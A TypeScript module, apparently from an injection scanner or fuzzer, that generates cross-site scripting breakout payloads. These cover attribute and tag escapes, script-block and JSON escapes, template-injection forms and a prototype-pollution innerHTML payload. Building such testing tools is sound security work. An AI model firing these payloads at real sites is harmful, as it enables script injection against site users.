import type { InjectionForm } from './injection-form.ts'

/** How a text gets out of where it was put: an attribute, an element, a comment. */
const ways = ['"', "'", '`', '">', "'>", '"/>', '\\">', '&quot;>', '%22>', '\u2028">']

/** What it does outside; `@` is the script. */
const thens = ['<img src=x onerror=@>', '<script>@</script>', ' autofocus tabindex=0 onfocus=@ x=']

/** For a text that was put into a script, into JSON in a page, or into a template. */
const inScripts = [
  '</script><script>@</script>',
  '"}</script><script>@</script>',
  '</script><img src=x onerror=@>',
  '<!--<script>@</script>',
  '";@;//',
  "';@;//",
  '`;@;//',
  '\\";@;//',
  "'-@-'",
  '"-@-"',
  '"+@+"',
  '"});@;({"x":"',
  '"]);@;//',
  '*/@/*',
  '\u2028@//',
  '\n@\n',
  '${@}',
  '{{@}}',
  "{{constructor.constructor('@')()}}",
  '{@}',
  '#{@}',
  '<%= @ %>',
  '[[@]]',
  '{% raw @ %}',
  '\\u003cscript\\u003e@\\u003c/script\\u003e',
  '","@type":"x"}</script><script>@@</script>',
  '__proto__[innerHTML]=<img src=x onerror=@>',
]

const write =
  (pattern: string): InjectionForm =>
  ({ run }) =>
    pattern.replace(/@(?!type|@)/, run)

export const breakoutForms: InjectionForm[] = [
  ...ways.flatMap((way) => thens.map((then) => write(way + then))),
  ...inScripts.map(write),
]
